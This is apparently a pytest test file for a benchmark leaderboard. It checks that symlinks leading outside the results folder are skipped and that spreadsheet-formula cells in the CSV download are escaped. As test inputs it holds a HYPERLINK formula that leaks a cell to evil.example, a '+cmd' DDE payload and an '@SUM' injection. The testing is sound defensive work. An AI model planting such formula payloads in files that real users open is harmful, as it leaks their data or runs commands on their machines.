"""Leaderboard inputs that try to reach outside the results folder or into a reader's spreadsheet."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from benchmark.records import record_name
from benchmark.results import read_results, scores_path
from leaderboard.build import build_site
from leaderboard.collect import collect
from tests.records import verification_record

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def results(tmp_path, demo_run) -> Path:
    root = tmp_path / "results"
    root.mkdir()
    shutil.copy(demo_run["file"], root / "demo.parquet")
    shutil.copy(scores_path(demo_run["file"]), scores_path(root / "demo.parquet"))
    return root


# ---------------------------------------------------------------- item 5: files must resolve inside --results


def test_a_symlinked_file_from_outside_is_skipped_and_named(results, tmp_path, make_run):
    outside = make_run(tmp_path / "elsewhere" / "forged.parquet", method="coop")
    (results / "smuggled.parquet").symlink_to(outside)
    inputs = collect(results)
    assert set(inputs.rows["source_file"]) == {"demo.parquet"}
    skipped = {s.path: s.reasons for s in inputs.skipped}
    assert "smuggled.parquet" in skipped
    assert any(str(outside) in r and "outside" in r for r in skipped["smuggled.parquet"]), skipped


def test_a_symlinked_folder_from_outside_is_not_published(results, tmp_path, make_run):
    make_run(tmp_path / "elsewhere" / "coop" / "forged.parquet", method="coop")
    (results / "coop").symlink_to(tmp_path / "elsewhere" / "coop", target_is_directory=True)
    inputs = collect(results)
    assert set(inputs.rows["source_file"]) == {"demo.parquet"}


def test_a_symlinked_reported_csv_from_outside_is_skipped(results, tmp_path):
    repo_reported = Path(__file__).parents[1] / "results" / "reported"
    outside = tmp_path / "elsewhere" / "numbers.csv"
    outside.parent.mkdir()
    shutil.copy(next(repo_reported.glob("*.csv")), outside)
    (results / "reported").mkdir()
    (results / "reported" / "numbers.csv").symlink_to(outside)
    inputs = collect(results)
    assert inputs.reported.empty
    assert any(s.path == "reported/numbers.csv" for s in inputs.skipped)


def test_a_symlinked_verification_record_from_outside_is_not_used(results, tmp_path):
    target = results / "demo.parquet"
    run_id = read_results(target)["run_id"].iloc[0]
    record = verification_record(target, compared=1)
    name = record_name(entry_sha256=record["entry_sha256"], run_id=run_id)
    outside = tmp_path / "elsewhere" / name
    outside.parent.mkdir()
    outside.write_text(json.dumps(record))
    (results / "verifications").mkdir()
    (results / "verifications" / name).symlink_to(outside)
    inputs = collect(results)
    assert inputs.verification[run_id]["status"] == "unverified" and inputs.verification[run_id]["record"] is None
    assert any(s.path == f"verifications/{name}" and "outside" in s.reasons[0] for s in inputs.skipped)


def test_links_that_stay_inside_the_results_folder_are_read(results):
    (results / "by-method").mkdir()
    (results / "demo.parquet").rename(results / "by-method" / "demo.parquet")
    scores_path(results / "demo.parquet").rename(scores_path(results / "by-method" / "demo.parquet"))
    (results / "latest.parquet").symlink_to(Path("by-method") / "demo.parquet")  # relative, inside
    inputs = collect(results)
    # the same file twice: its run is counted once; the link's copy is the duplicate
    assert inputs.rows["run_id"].nunique() == 1
    assert not any("outside" in r for s in inputs.skipped for r in s.reasons)


def test_a_results_folder_that_is_itself_a_link_works(results, tmp_path):
    link = tmp_path / "results-link"
    link.symlink_to(results, target_is_directory=True)
    inputs = collect(link)
    assert set(inputs.rows["source_file"]) == {"demo.parquet"} and not inputs.skipped


# ---------------------------------------------------------------- item 8: CSV cells are never formulas


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_download_escapes_formulas_and_keeps_numbers(results, tmp_path, make_run):
    make_run(
        results / "evil.parquet",
        method=FORMULA,
        backbone="@SUM(1+1):demo",
        device="+cmd|' /C calc'!A0",
        git_commit="-2+3",
    )
    build_site(results_dir=results, out=tmp_path / "site")
    rows = _csv(tmp_path / "site" / "downloads" / "oodbench-results.csv")
    evil = [r for r in rows if r["source_file"] == "evil.parquet"]
    assert evil
    for r in evil:
        assert r["method"] == "'" + FORMULA
        assert r["backbone"] == "'@SUM(1+1):demo"
        assert r["device"] == "'+cmd|' /C calc'!A0"
        assert r["git_commit"] == "'-2+3"
    for r in rows:
        for col, value in r.items():
            assert not value.startswith(("=", "+", "@")), (col, value)
            if value.startswith("-"):  # only plain negative numbers may start with a minus
                float(value)
        float(r["fpr95"]), int(r["n_id"])  # numbers stay numbers, unprefixed
    demo = read_results(results / "demo.parquet")
    assert {r["method"] for r in rows if r["source_file"] == "demo.parquet"} == set(demo["method"])


def test_escape_formula_by_hand():
    from leaderboard.csv_safety import escape_formula

    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("+1+1") == "'+1+1"
    assert escape_formula("-1+1") == "'-1+1"
    assert escape_formula("@SUM(A1)") == "'@SUM(A1)"
    assert escape_formula("\t=1") == "'\t=1" and escape_formula("\r=1") == "'\r=1"  # OWASP lists these too
    assert escape_formula("-1.5") == "-1.5" and escape_formula("-2e-3") == "-2e-3" and escape_formula("+7") == "+7"
    assert escape_formula(-1.5) == -1.5 and escape_formula(3) == 3 and escape_formula(None) is None
    assert escape_formula("coop") == "coop" and escape_formula("") == "" and escape_formula("a=b") == "a=b"
    assert escape_formula("-") == "'-" and escape_formula("-inf") == "'-inf"
